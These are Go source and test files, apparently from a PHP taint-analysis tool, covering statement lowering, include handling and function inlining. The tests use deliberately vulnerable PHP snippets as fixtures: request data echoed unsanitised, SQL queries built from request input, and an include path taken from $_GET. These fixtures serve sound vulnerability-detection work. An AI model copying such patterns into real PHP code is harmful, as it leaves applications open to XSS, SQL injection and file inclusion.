		globals: make(map[string]bool),
		retVar:  prefix + "return",
	}

	bottom := ai.Const{Type: b.lat.Bottom(), Lat: b.lat}

	// Bind parameters in the caller's scope (defaults are evaluated in the
	// callee, but they are constant in practice).
	type refParam struct {
		local  string
		caller string
	}
	var refs []refParam
	paramVals := make([]ai.Expr, len(fd.Params))
	for i, p := range fd.Params {
		switch {
		case i < len(args):
			paramVals[i] = args[i]
		case p.Default != nil:
			paramVals[i] = b.trExpr(p.Default)
		default:
			paramVals[i] = bottom
		}
		if p.ByRef && i < len(argASTs) {
			if callerVar, _, ok := b.rootVar(argASTs[i]); ok {
				refs = append(refs, refParam{local: prefix + p.Name, caller: callerVar})
			}
		}
	}

	outer := b.scope
	b.scope = inner
	b.emit(&ai.Set{Var: inner.retVar, RHS: bottom, Site: b.site(site), Synthetic: true})
	for i, p := range fd.Params {
		set := &ai.Set{Var: prefix + p.Name, RHS: paramVals[i], Site: b.site(site), Synthetic: true}
		if i < len(argASTs) {
			// The argument expression is a real patch point: wrapping it
			// sanitizes the parameter at the call site.
			set.SrcVar = srcRootName(argASTs[i])
			set.RHSPos = argASTs[i].Pos()
			set.RHSEnd = argASTs[i].End()
			set.Synthetic = false
		}
		b.emit(set)
	}
	if recv != nil {
		b.emit(&ai.Set{Var: prefix + "this", RHS: recv.expr, Site: b.site(site), Synthetic: true})
	}
	for _, st := range fd.Body {
		b.buildStmt(st)
	}
	b.scope = outer

	// Copy-back for by-reference parameters and the method receiver (weak
	// updates: the callee may or may not have written).
	for _, r := range refs {
		b.emit(&ai.Set{
			Var:       r.caller,
			RHS:       ai.NewJoin(ai.Var{Name: r.caller}, ai.Var{Name: r.local}),
			Site:      b.site(site),
			Synthetic: true,
		})
	}
	if recv != nil && recv.rootVar != "" {
		b.emit(&ai.Set{
			Var:       recv.rootVar,
			RHS:       ai.NewJoin(ai.Var{Name: recv.rootVar}, ai.Var{Name: prefix + "this"}),
			Site:      b.site(site),
			Synthetic: true,
		})
	}
	return ai.Var{Name: inner.retVar}
}

// handleExtract models PHP's extract($arr), which creates one variable per
// array key. The statically unknowable key set is over-approximated by the
// unit's read-but-never-assigned variable names: exactly the variables
// whose only possible origin is an extract (or similar) call. Each receives
// the array's type — reproducing the paper's PHP Support Tickets example,
// where extract($row) hands tainted database fields to an echo.
func (b *builder) handleExtract(e *ast.Call) ai.Expr {
	bottom := ai.Const{Type: b.lat.Bottom(), Lat: b.lat}
	if len(e.Args) == 0 {
		return bottom
	}
	subj := b.trExpr(e.Args[0])
	for _, a := range e.Args[1:] {
		b.trExpr(a)
	}
	for _, name := range b.extractTargets {
		b.emit(&ai.Set{
			Var:    b.resolveVar(name),
			RHS:    subj,
			Site:   b.site(e),
			SrcVar: name,
			RHSPos: e.Args[0].Pos(),
			RHSEnd: e.Args[0].End(),
		})
	}
	return bottom
}
