package flow

// Differential tests for the IR refactor: the legacy AST builder
// (BuildAST, kept as a seam exactly for this) and the IR path (Build =
// ir.Lower + BuildUnit) must produce byte-identical abstract
// interpretations over the whole legacy PHP subset. Sources using the
// IR-only subset extensions (closures, foreach by reference) are
// exercised separately in unit_test.go — the legacy builder approximates
// them, so they are excluded here by construction.

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"webssari/internal/ai"
	"webssari/internal/php/parser"
	"webssari/internal/prelude"
)

// differentialSources is a corpus spanning every construct the legacy
// builder handles: each entry is built through both paths and compared.
var differentialSources = []string{
	`<?php $x = $_GET['a']; echo $x;`,
	`<?php $x = 'hello'; echo $x; echo "const $x";`,
	`<?php $x = $_GET['a']; echo htmlspecialchars($x);`,
	`<?php $a = $_GET['x'] . 'suffix'; mysql_query("SELECT $a");`,
	`<?php if ($c) { $x = $_GET['a']; } else { $x = 'ok'; } echo $x;`,
	`<?php if ($a) { echo 1; } elseif ($b) { echo $_GET['x']; } elseif ($c) { echo 2; } else { echo 3; }`,
	`<?php while ($i < 3) { $i = $i + 1; $x = $_GET['a']; } echo $x;`,
	`<?php do { $x = $_POST['b']; } while ($x); echo $x;`,
	`<?php for ($i = 0; $i < 10; $i = $i + 1) { $s = $s . $_GET['q']; } echo $s;`,
	`<?php foreach ($_POST as $k => $v) { echo $v; }`,
	`<?php switch ($x) { case 1: $y = $_GET['a']; break; default: $y = 'd'; } echo $y;`,
	`<?php function f($a) { return htmlspecialchars($a); } echo f($_GET['x']);`,
	`<?php function g(&$out) { $out = $_GET['x']; } g($y); echo $y;`,
	`<?php function r($n) { return r($n); } echo r($_GET['x']);`,
	`<?php class C { function m($v) { return $v; } } $o = new C($_GET['x']); echo $o->m($_POST['y']);`,
	`<?php $g = $_GET['v']; function uses_global() { global $g; echo $g; } uses_global();`,
	`<?php function s() { static $acc = ''; $acc = $acc . $_GET['x']; echo $acc; } s(); s();`,
	`<?php extract($_REQUEST); echo $whatever;`,
	`<?php $x = $_GET['a']; unset($x); echo $x;`,
	`<?php $x = isset($_GET['a']) ? $_GET['a'] : 'd'; echo $x;`,
	`<?php $x = $_GET['a'] ?: 'd'; echo $x;`,
	`<?php echo $GLOBALS['x']; $GLOBALS['y'] = $_GET['a']; echo $GLOBALS['y'];`,
	`<?php $$v = $_GET['x']; echo $$v;`,
	`<?php $x = (int)$_GET['n']; echo $x; $y = (string)$_GET['s']; echo $y;`,
	`<?php if ($_GET['q']) { exit('bye ' . $_GET['q']); } echo 'alive';`,
	`<?php $x = $_GET['a']; $x .= 'tail'; echo $x;`,
	`<?php list($a, $b) = $arr; echo $a;`,
	`<?php echo "interp {$_GET['x']} and ${name} end";`,
	`<?php $arr[1] = $_GET['a']; $arr['k'] = 'c'; echo $arr[1];`,
	`<?php $o->p = $_GET['a']; echo $o->p;`,
	`<?php include $_GET['page'];`,
	`<?php $x = ; } } if (`,
	`no php at all`,
	`<?php echo unknown_builtin($_GET['x'], 'y');`,
	`<?php $f = 'strtoupper'; echo $f($_GET['x']);`,
	`<?php $x = array($_GET['a'], 'b'); echo $x;`,
	`<?php die(); echo $never;`,
}

// buildBoth runs one source through the legacy AST builder and the IR
// path under identical options, failing on builder errors.
func buildBoth(t *testing.T, name string, src []byte, opts Options) (legacy, viaIR *ai.Program) {
	t.Helper()
	res := parser.Parse(name, src)
	legacy, err := BuildAST(res.File, opts)
	if err != nil {
		t.Fatalf("BuildAST: %v", err)
	}
	viaIR, err = Build(res.File, opts)
	if err != nil {
		t.Fatalf("Build (IR): %v", err)
	}
	return legacy, viaIR
}

// compareAI asserts two abstract interpretations are byte-identical:
// same printed program, warnings, branch count, initial types, and
// truncation state.
func compareAI(t *testing.T, legacy, viaIR *ai.Program) {
	t.Helper()
	if got, want := viaIR.String(), legacy.String(); got != want {
		t.Errorf("AI programs differ\n--- legacy ---\n%s\n--- IR ---\n%s", want, got)
	}
	if got, want := strings.Join(viaIR.Warnings, "\n"), strings.Join(legacy.Warnings, "\n"); got != want {
		t.Errorf("warnings differ\n--- legacy ---\n%s\n--- IR ---\n%s", want, got)
	}
	if viaIR.Branches != legacy.Branches {
		t.Errorf("branch count: IR %d, legacy %d", viaIR.Branches, legacy.Branches)
	}
	if viaIR.Truncated != legacy.Truncated {
		t.Errorf("truncated: IR %v, legacy %v", viaIR.Truncated, legacy.Truncated)
	}
	if len(viaIR.InitialTypes) != len(legacy.InitialTypes) {
		t.Errorf("initial types: IR %d entries, legacy %d", len(viaIR.InitialTypes), len(legacy.InitialTypes))
	}
	for name, want := range legacy.InitialTypes {
		if got, ok := viaIR.InitialTypes[name]; !ok || got != want {
			t.Errorf("initial type %q: IR %v (present %v), legacy %v", name, got, ok, want)
		}
	}
}

func TestDifferentialASTvsIR(t *testing.T) {
	for _, src := range differentialSources {
		src := src
		t.Run(src[:min(len(src), 40)], func(t *testing.T) {
			opts := Options{Prelude: prelude.Default()}
			legacy, viaIR := buildBoth(t, "diff.php", []byte(src), opts)
			compareAI(t, legacy, viaIR)
		})
	}
}

func TestDifferentialLoopUnroll(t *testing.T) {
	src := `<?php while ($c) { $p = $q; $q = $_GET['x']; } echo $p;`
	for _, unroll := range []int{1, 2, 3} {
		opts := Options{Prelude: prelude.Default(), LoopUnroll: unroll}
		legacy, viaIR := buildBoth(t, "unroll.php", []byte(src), opts)
		compareAI(t, legacy, viaIR)
	}
}

// TestDifferentialExamples runs both paths over the real example corpus,
// includes and all.
func TestDifferentialExamples(t *testing.T) {
	dir := filepath.Join("..", "..", "examples", "php")
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatalf("reading %s: %v", dir, err)
	}
	for _, e := range entries {
		if e.IsDir() || !strings.HasSuffix(e.Name(), ".php") {
			continue
		}
		path := filepath.Join(dir, e.Name())
		src, err := os.ReadFile(path)
		if err != nil {
			t.Fatalf("reading %s: %v", path, err)
		}
		t.Run(e.Name(), func(t *testing.T) {
			opts := Options{Prelude: prelude.Default(), Dir: dir, Loader: os.ReadFile}
			legacy, viaIR := buildBoth(t, path, src, opts)
			compareAI(t, legacy, viaIR)
		})
	}
}
