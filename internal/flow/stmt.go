package flow

import (
	"path"
	"strings"

	"webssari/internal/ai"
	"webssari/internal/php/ast"
	"webssari/internal/php/parser"
)

func (b *builder) buildStmts(stmts []ast.Stmt) []ai.Cmd {
	return b.collect(func() {
		for _, s := range stmts {
			b.buildStmt(s)
		}
	})
}

func (b *builder) buildStmt(s ast.Stmt) {
	if s == nil {
		return
	}
	// Only reset the statement site at the outermost statement nesting
	// level of the current build; nested expressions keep it.
	b.curStmtPos = s.Pos()
	b.curStmtEnd = s.End()

	switch s := s.(type) {
	case *ast.ExprStmt:
		if ex, ok := s.X.(*ast.ExitExpr); ok {
			b.trExitExpr(ex)
			b.emit(&ai.Stop{Site: b.site(s)})
			return
		}
		b.trExpr(s.X)

	case *ast.EchoStmt:
		b.emitSinkCall("echo", s.Args, s)

	case *ast.InlineHTMLStmt, *ast.NopStmt, *ast.BreakStmt, *ast.ContinueStmt:
		// No information flow: constant output, or control transfer that the
		// nondeterministic-branch model already over-approximates.

	case *ast.IfStmt:
		b.buildIfChain(s.Cond, s.Then, s.Elseifs, s.Else, s)

	case *ast.WhileStmt:
		// while e do c  ⇒  if e then c, repeated LoopUnroll times (§3.2:
		// "loop structures can be deconstructed into selection structures").
		// The condition is evaluated before each unfolding so that its side
		// effects (e.g. "while ($row = mysql_fetch_array(...))") are kept.
		b.trExpr(s.Cond)
		b.buildLoop(func() { b.trExpr(s.Cond) }, s.Body, nil, s)

	case *ast.DoWhileStmt:
		// The body executes at least once; remaining iterations become
		// selections.
		for _, st := range s.Body {
			b.buildStmt(st)
		}
		b.curStmtPos, b.curStmtEnd = s.Pos(), s.End()
		b.trExpr(s.Cond)
		if b.opts.LoopUnroll > 1 {
			saved := b.opts.LoopUnroll
			b.opts.LoopUnroll = saved - 1
			b.buildLoop(func() { b.trExpr(s.Cond) }, s.Body, nil, s)
			b.opts.LoopUnroll = saved
		}

	case *ast.ForStmt:
		for _, e := range s.Init {
			b.trExpr(e)
		}
		for _, e := range s.Cond {
			b.trExpr(e)
		}
		post := func() {
			for _, e := range s.Post {
				b.trExpr(e)
			}
			for _, e := range s.Cond {
				b.trExpr(e)
			}
		}
		b.buildLoop(nil, s.Body, post, s)

	case *ast.ForeachStmt:
		subj := b.trExpr(s.Subject)
		body := func() {
			// Key and value receive (an element of) the subject; element
			// types are dominated by the array's type in our array model.
			if s.KeyVar != nil {
				b.assignTo(s.KeyVar, subj, s.Subject, s)
			}
			b.assignTo(s.ValVar, subj, s.Subject, s)
			for _, st := range s.Body {
				b.buildStmt(st)
			}
		}
		b.emitSelection(body, nil, s)

	case *ast.SwitchStmt:
		b.trExpr(s.Subject)
		for _, c := range s.Cases {
			if c.Match != nil {
				b.trExpr(c.Match)
			}
		}
		b.buildSwitchCases(s.Cases, s)

	case *ast.ReturnStmt:
		if b.scope.retVar == "" {
			// Top-level return ends the page like stop.
			if s.X != nil {
				b.trExpr(s.X)
			}
			b.emit(&ai.Stop{Site: b.site(s)})
			return
		}
		rhs := ai.Expr(ai.Const{Type: b.lat.Bottom(), Lat: b.lat})
		if s.X != nil {
			rhs = b.trExpr(s.X)
		}
		// Join with previous returns: flow-insensitive over multiple return
		// statements, precise across branches (each arm assigns its own).
		set := &ai.Set{
			Var:       b.scope.retVar,
			RHS:       ai.NewJoin(ai.Var{Name: b.scope.retVar}, rhs),
			Site:      b.site(s),
			Synthetic: true,
		}
		if s.X != nil {
			// The returned expression is a real patch point.
			set.RHSPos = s.X.Pos()
			set.RHSEnd = s.X.End()
			set.Synthetic = false
		}
		b.emit(set)

	case *ast.GlobalStmt:
		for _, name := range s.Names {
			b.scope.globals[name] = true
		}

	case *ast.StaticStmt:
		for _, v := range s.Vars {
			set := &ai.Set{Var: b.resolveVar(v.Name), Site: b.site(s), SrcVar: v.Name, Synthetic: true}
			set.RHS = ai.Expr(ai.Const{Type: b.lat.Bottom(), Lat: b.lat})
			if v.Init != nil {
				set.RHS = b.trExpr(v.Init)
				set.RHSPos = v.Init.Pos()
				set.RHSEnd = v.Init.End()
				set.Synthetic = false
			}
			b.emit(set)
		}

	case *ast.UnsetStmt:
		for _, a := range s.Args {
			// Only unsetting a whole variable clears its type; unsetting
			// one array element leaves the rest of the array's taint.
			if v, ok := a.(*ast.Var); ok {
				b.emit(&ai.Set{
					Var:       b.resolveVar(v.Name),
					RHS:       ai.Const{Type: b.lat.Bottom(), Lat: b.lat, Label: "unset"},
					Site:      b.site(s),
					SrcVar:    v.Name,
					Synthetic: true,
				})
			}
		}

	case *ast.FunctionDecl, *ast.ClassDecl:
		// Collected in the declaration pre-pass; unfolded at call sites.

	case *ast.BlockStmt:
		for _, st := range s.Body {
			b.buildStmt(st)
		}
	}
}

// buildIfChain lowers if/elseif/else to nested nondeterministic branches.
// Branch conditions are evaluated for their side effects only; their truth
// value is nondeterministic in the AI.
func (b *builder) buildIfChain(cond ast.Expr, then []ast.Stmt, elseifs []ast.ElseifClause, els []ast.Stmt, site ast.Node) {
	b.trExpr(cond)
	id := b.branchID
	b.branchID++
	thenCmds := b.buildStmts(then)
	elseCmds := b.collect(func() {
		if len(elseifs) > 0 {
			b.buildIfChain(elseifs[0].Cond, elseifs[0].Body, elseifs[1:], els, site)
			return
		}
		for _, st := range els {
			b.buildStmt(st)
		}
	})
	b.emit(&ai.If{ID: id, Then: thenCmds, Else: elseCmds, Site: b.site(site)})
}

// emitSelection wraps body (and optional post) in one nondeterministic
// branch with an empty else arm: the "may not execute" selection that
// loops and foreach statements deconstruct into.
func (b *builder) emitSelection(body func(), post func(), site ast.Node) {
	id := b.branchID
	b.branchID++
	thenCmds := b.collect(func() {
		body()
		if post != nil {
			post()
		}
	})
	b.emit(&ai.If{ID: id, Then: thenCmds, Site: b.site(site)})
}

// buildLoop deconstructs a loop into LoopUnroll nested selections. cond
// evaluates the loop condition for side effects before each unfolding
// (may be nil); post runs after each body copy (for-loop post+cond).
func (b *builder) buildLoop(cond func(), body []ast.Stmt, post func(), site ast.Node) {
	var unfold func(k int)
	unfold = func(k int) {
		if k == 0 {
			return
		}
		b.emitSelection(func() {
			for _, st := range body {
				b.buildStmt(st)
			}
			if post != nil {
				post()
			}
			if k > 1 {
				if cond != nil {
					cond()
				}
				unfold(k - 1)
			}
		}, nil, site)
	}
	unfold(b.opts.LoopUnroll)
}

// buildSwitchCases lowers a switch into a chain of selections; fallthrough
// is over-approximated by treating each case body independently.
func (b *builder) buildSwitchCases(cases []ast.SwitchCase, site ast.Node) {
	if len(cases) == 0 {
		return
	}
	head := cases[0]
	id := b.branchID
	b.branchID++
	thenCmds := b.buildStmts(head.Body)
	elseCmds := b.collect(func() {
		b.buildSwitchCases(cases[1:], site)
	})
	b.emit(&ai.If{ID: id, Then: thenCmds, Else: elseCmds, Site: b.site(site)})
}

// emitSinkCall emits the assertion for a SOC call if the prelude registers
// one; args are always evaluated for side effects.
func (b *builder) emitSinkCall(name string, args []ast.Expr, site ast.Node) {
	sink, isSink := b.pre.SinkFor(name)
	var checked []ai.Arg
	for i, a := range args {
		ex := b.trExpr(a)
		if isSink && sink.Checks(i+1) {
			checked = append(checked, ai.Arg{
				Expr: ex, ArgPos: i + 1, Pos: a.Pos(), End: a.End(),
			})
		}
	}
	if isSink && len(checked) > 0 {
		b.emit(&ai.Assert{
			Fn:    sink.Name,
			Args:  checked,
			Bound: sink.Bound,
			Site:  b.site(site),
		})
	}
}

// ------------------------------------------------------------------ include

// handleInclude resolves a static include and splices the included file's
// AI in place; dynamic include paths become an assertion on the include
// sink (remote-file-inclusion check) plus a warning.
func (b *builder) handleInclude(e *ast.IncludeExpr) ai.Expr {
	bottom := ai.Const{Type: b.lat.Bottom(), Lat: b.lat}
	lit, isStatic := constPath(e.Path)
	if !isStatic || b.opts.Loader == nil {
		pathExpr := b.trExpr(e.Path)
		if !isStatic {
			b.warnf(e.Pos(), "dynamic %s path cannot be resolved statically", e.Kind)
			if sink, ok := b.pre.SinkFor(e.Kind.String()); ok {
				b.emit(&ai.Assert{
					Fn:    sink.Name,
					Args:  []ai.Arg{{Expr: pathExpr, ArgPos: 1, Pos: e.Path.Pos(), End: e.Path.End()}},
					Bound: sink.Bound,
					Site:  b.site(e),
				})
			}
		} else {
			b.warnf(e.Pos(), "no include loader configured; skipping %q", lit)
		}
		return bottom
	}

	candidates := []string{lit}
	if !path.IsAbs(lit) {
		if dir := path.Dir(e.Pos().File); dir != "." && dir != "" {
			candidates = append([]string{path.Join(dir, lit)}, candidates...)
		}
		if b.opts.Dir != "" {
			candidates = append(candidates, path.Join(b.opts.Dir, lit))
		}
	}

	var src []byte
	var resolved string
	for _, cand := range candidates {
		data, err := b.opts.Loader(cand)
		if err == nil {
			src, resolved = data, cand
			break
		}
		b.recordIncludeMiss(cand)
	}
	if resolved == "" {
		b.warnf(e.Pos(), "cannot load include %q", lit)
		b.unresolvedIncludes = append(b.unresolvedIncludes, lit)
		return bottom
	}
	b.recordIncludeHit(resolved, src)

	once := e.Kind.String() == "include_once" || e.Kind.String() == "require_once"
	if once && b.included[resolved] {
		return bottom
	}
	for _, active := range b.includeStack {
		if active == resolved {
			b.warnf(e.Pos(), "include cycle through %q; skipping", resolved)
			return bottom
		}
	}
	b.included[resolved] = true

	res := parser.Parse(resolved, src)
	for _, err := range res.Errs {
		b.warnf(e.Pos(), "in included %s: %v", resolved, err)
	}
	b.collectDecls(res.File.Stmts, "")
	b.collectVarUsage(res.File.Stmts)

	b.includeStack = append(b.includeStack, resolved)
	savedPos, savedEnd := b.curStmtPos, b.curStmtEnd
	for _, st := range res.File.Stmts {
		b.buildStmt(st)
	}
	b.curStmtPos, b.curStmtEnd = savedPos, savedEnd
	b.includeStack = b.includeStack[:len(b.includeStack)-1]
	return bottom
}

// constPath statically evaluates an include path: string literals and
// concatenations of string literals.
func constPath(e ast.Expr) (string, bool) {
	switch e := e.(type) {
	case *ast.StringLit:
		return e.Value, true
	case *ast.Binary:
		if e.Op.String() != "." {
			return "", false
		}
		l, ok := constPath(e.L)
		if !ok {
			return "", false
		}
		r, ok := constPath(e.R)
		if !ok {
			return "", false
		}
		return l + r, true
	case *ast.Interp:
		var sb strings.Builder
		for _, part := range e.Parts {
			lit, ok := part.(*ast.StringLit)
			if !ok {
				return "", false
			}
			sb.WriteString(lit.Value)
		}
		return sb.String(), true
	default:
		return "", false
	}
}
