package flow

import (
	"fmt"
	"strings"
	"testing"

	"webssari/internal/ai"
	"webssari/internal/prelude"
)

// build filters src with the default prelude (plus any extra prelude text)
// and fails the test on parse errors.
func build(t *testing.T, src string, opts ...func(*Options)) *ai.Program {
	t.Helper()
	o := Options{Prelude: prelude.Default()}
	for _, fn := range opts {
		fn(&o)
	}
	prog, errs := BuildSource("test.php", []byte(src), o)
	for _, err := range errs {
		t.Errorf("build: %v", err)
	}
	return prog
}

// violations runs the exhaustive reference oracle.
func violations(p *ai.Program) []ai.Violation {
	return p.ExhaustiveViolations()
}

func TestDirectTaintToSink(t *testing.T) {
	p := build(t, `<?php $x = $_GET['a']; echo $x;`)
	vs := violations(p)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
	if vs[0].Assert.Fn != "echo" {
		t.Errorf("sink = %q, want echo", vs[0].Assert.Fn)
	}
}

func TestUntaintedIsSafe(t *testing.T) {
	p := build(t, `<?php $x = 'hello'; echo $x; echo "const $x";`)
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0\n%s", len(vs), p)
	}
}

func TestSanitizerClears(t *testing.T) {
	p := build(t, `<?php $x = $_GET['a']; echo htmlspecialchars($x);`)
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0\n%s", len(vs), p)
	}
}

func TestSanitizedReassignment(t *testing.T) {
	p := build(t, `<?php $x = $_GET['a']; $x = htmlspecialchars($x); echo $x;`)
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0\n%s", len(vs), p)
	}
}

func TestTaintThroughConcat(t *testing.T) {
	p := build(t, `<?php $q = "SELECT * FROM t WHERE id=" . $_GET['id']; mysql_query($q);`)
	vs := violations(p)
	if len(vs) != 1 || vs[0].Assert.Fn != "mysql_query" {
		t.Fatalf("violations = %+v, want one mysql_query\n%s", vs, p)
	}
}

func TestTaintThroughInterpolation(t *testing.T) {
	p := build(t, `<?php $sql = "INSERT INTO track_temp VALUES('$HTTP_REFERER');"; mysql_query($sql);`)
	vs := violations(p)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestTaintThroughBuiltinStringFns(t *testing.T) {
	p := build(t, `<?php $x = trim($_POST['name']); echo $x;`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (taint must flow through trim)\n%s", len(vs), p)
	}
}

func TestBranchSensitivity(t *testing.T) {
	// Taint only in one branch: exactly one violating trace.
	p := build(t, `<?php
if ($c) { $x = $_GET['a']; } else { $x = 'safe'; }
echo $x;`)
	vs := violations(p)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
	if len(vs[0].Branches) != 1 || !vs[0].Branches[0] {
		t.Fatalf("trace branches = %v, want {0: true}", vs[0].Branches)
	}
}

func TestBothBranchesTainted(t *testing.T) {
	p := build(t, `<?php
if ($c) { $x = $_GET['a']; } else { $x = $_POST['b']; }
echo $x;`)
	vs := violations(p)
	if len(vs) != 2 {
		t.Fatalf("violations = %d, want 2 traces\n%s", len(vs), p)
	}
}

func TestFigure6Structure(t *testing.T) {
	p := build(t, `<?php
if ($Nick) {
    $tmp = $_GET["nick"];
    echo(htmlspecialchars($tmp));
} else {
    $tmp = "You are the " . $GuestCount . " guest";
    echo($tmp);
}`)
	// Both branches are safe: the then-branch sanitizes, the else-branch
	// uses only untainted data.
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0\n%s", len(vs), p)
	}
	if p.Branches != 1 {
		t.Fatalf("branches = %d, want 1", p.Branches)
	}
	asserts := p.Asserts()
	if len(asserts) != 2 {
		t.Fatalf("asserts = %d, want 2", len(asserts))
	}
}

func TestWhileBecomesSelection(t *testing.T) {
	p := build(t, `<?php while ($i < 10) { echo $_GET['x']; $i++; }`)
	vs := violations(p)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
	if p.Branches != 1 {
		t.Fatalf("branches = %d, want 1 (loop deconstructed to selection)", p.Branches)
	}
	// The violating trace must record the selection as taken.
	if !vs[0].Branches[0] {
		t.Fatalf("trace should enter the loop body")
	}
}

func TestLoopConditionSideEffects(t *testing.T) {
	// Figure 2 shape: the loop condition's assignment must be hoisted.
	p := build(t, `<?php
while ($row = mysql_fetch_array($result)) {
    echo $row;
}`)
	vs := violations(p)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestLoopUnrollCatchesLoopCarriedFlow(t *testing.T) {
	// Taint needs two iterations to reach the sink: $b gets $a's previous
	// value. A single deconstruction (the paper's choice) misses it; unroll
	// factor 2 finds it.
	src := `<?php
$a = 'safe';
$b = 'safe';
while ($i) {
    $b = $a;
    $a = $_GET['x'];
}
echo $b;`
	p1 := build(t, src)
	if vs := violations(p1); len(vs) != 0 {
		t.Fatalf("unroll=1: violations = %d, want 0 (paper's single pass)\n%s", len(vs), p1)
	}
	p2 := build(t, src, func(o *Options) { o.LoopUnroll = 2 })
	if vs := violations(p2); len(vs) == 0 {
		t.Fatalf("unroll=2: want loop-carried violation\n%s", p2)
	}
}

func TestForeachPropagatesSubjectTaint(t *testing.T) {
	p := build(t, `<?php
$rows = mysql_fetch_array($res);
foreach ($rows as $k => $v) {
    echo $v;
}`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestForLoop(t *testing.T) {
	p := build(t, `<?php
for ($i = 0; $i < 10; $i++) {
    echo $_COOKIE['session'];
}`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestDoWhileBodyAlwaysRuns(t *testing.T) {
	p := build(t, `<?php
do { echo $_GET['x']; } while ($c);`)
	vs := violations(p)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
	// The body is unconditional: the trace encounters no branch.
	if len(vs[0].Branches) != 0 {
		t.Fatalf("do-while first iteration should be branch-free, got %v", vs[0].Branches)
	}
}

func TestSwitchCases(t *testing.T) {
	p := build(t, `<?php
switch ($mode) {
case 'a': echo $_GET['x']; break;
case 'b': echo 'safe'; break;
default: echo $_POST['y'];
}`)
	vs := violations(p)
	if len(vs) != 2 {
		t.Fatalf("violations = %d, want 2\n%s", len(vs), p)
	}
}

func TestFunctionInlining(t *testing.T) {
	p := build(t, `<?php
function render($msg) {
    echo $msg;
}
render($_GET['comment']);
render('static');`)
	vs := violations(p)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (only tainted call site)\n%s", len(vs), p)
	}
}

func TestFunctionReturnFlow(t *testing.T) {
	p := build(t, `<?php
function fetch() {
    return $_POST['data'];
}
$x = fetch();
echo $x;`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestFunctionReturnSanitized(t *testing.T) {
	p := build(t, `<?php
function clean($s) {
    return htmlspecialchars($s);
}
echo clean($_GET['x']);`)
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0\n%s", len(vs), p)
	}
}

func TestLocalsDoNotLeakAcrossCalls(t *testing.T) {
	p := build(t, `<?php
function a() { $v = $_GET['x']; return 1; }
function b() { $v = 'clean'; echo $v; }
a();
b();`)
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0 (locals must be instance-renamed)\n%s", len(vs), p)
	}
}

func TestGlobalStatement(t *testing.T) {
	p := build(t, `<?php
$data = $_GET['x'];
function show() {
    global $data;
    echo $data;
}
show();`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestByRefParamCopyBack(t *testing.T) {
	p := build(t, `<?php
function fill(&$out) {
    $out = $_POST['v'];
}
$x = 'safe';
fill($x);
echo $x;`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (by-ref taint must copy back)\n%s", len(vs), p)
	}
}

func TestRecursionCutoff(t *testing.T) {
	p := build(t, `<?php
function rec($n) {
    return rec($n - 1);
}
echo rec($_GET['x']);`)
	// Taint still flows via the join-of-arguments fallback at the cutoff.
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
	found := false
	for _, w := range p.Warnings {
		if strings.Contains(w, "recursion cutoff") {
			found = true
		}
	}
	if !found {
		t.Fatalf("want recursion-cutoff warning, got %v", p.Warnings)
	}
}

func TestMethodInlining(t *testing.T) {
	p := build(t, `<?php
class View {
    function show($m) { echo $m; }
}
$v = new View();
$v->show($_GET['x']);`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestExtractFigure2(t *testing.T) {
	p := build(t, `<?php
$query = "SELECT tickets_id, tickets_username, tickets_subject FROM tickets_tickets";
$result = @mysql_query($query);
while ($row = @mysql_fetch_array($result)) {
    extract($row);
    echo "$tickets_username<BR>$tickets_subject<BR><BR>";
}`)
	vs := violations(p)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (stored XSS via extract)\n%s", len(vs), p)
	}
}

func TestGlobalsArrayAccess(t *testing.T) {
	p := build(t, `<?php
$GLOBALS['msg'] = $_GET['m'];
echo $GLOBALS['msg'];
function f() { echo $GLOBALS['msg']; }
f();`)
	vs := violations(p)
	if len(vs) != 2 {
		t.Fatalf("violations = %d, want 2\n%s", len(vs), p)
	}
}

func TestStopCutsExecution(t *testing.T) {
	p := build(t, `<?php
$x = $_GET['a'];
exit;
echo $x;`)
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0 (echo is dead after exit)\n%s", len(vs), p)
	}
}

func TestConditionalExit(t *testing.T) {
	p := build(t, `<?php
$x = $_GET['a'];
if ($bad) { exit; }
echo $x;`)
	vs := violations(p)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
	if vs[0].Branches[0] {
		t.Fatalf("violating trace must take the non-exit branch, got %v", vs[0].Branches)
	}
}

func TestDieArgumentIsSink(t *testing.T) {
	p := build(t, `<?php $r = f() or die("fail: $_GET[q]");`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (die echoes its argument)\n%s", len(vs), p)
	}
}

